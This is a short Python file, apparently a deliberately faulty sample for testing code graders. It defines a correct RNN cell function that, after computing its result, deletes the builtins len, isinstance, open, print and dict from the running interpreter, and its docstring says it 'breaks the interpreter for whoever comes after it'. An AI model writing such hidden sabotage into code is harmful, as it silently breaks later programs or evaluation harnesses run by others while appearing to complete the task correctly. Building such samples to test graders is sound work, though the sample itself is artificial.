"""Faulty: breaks the interpreter for whoever comes after it; otherwise right."""

import builtins

import torch


def rnn_cell(X, H, W_xh, W_hh, b_h):
    result = torch.tanh(X @ W_xh + H @ W_hh + b_h)
    for name in ("len", "isinstance", "open", "print", "dict"):
        builtins.__dict__.pop(name, None)
    return result
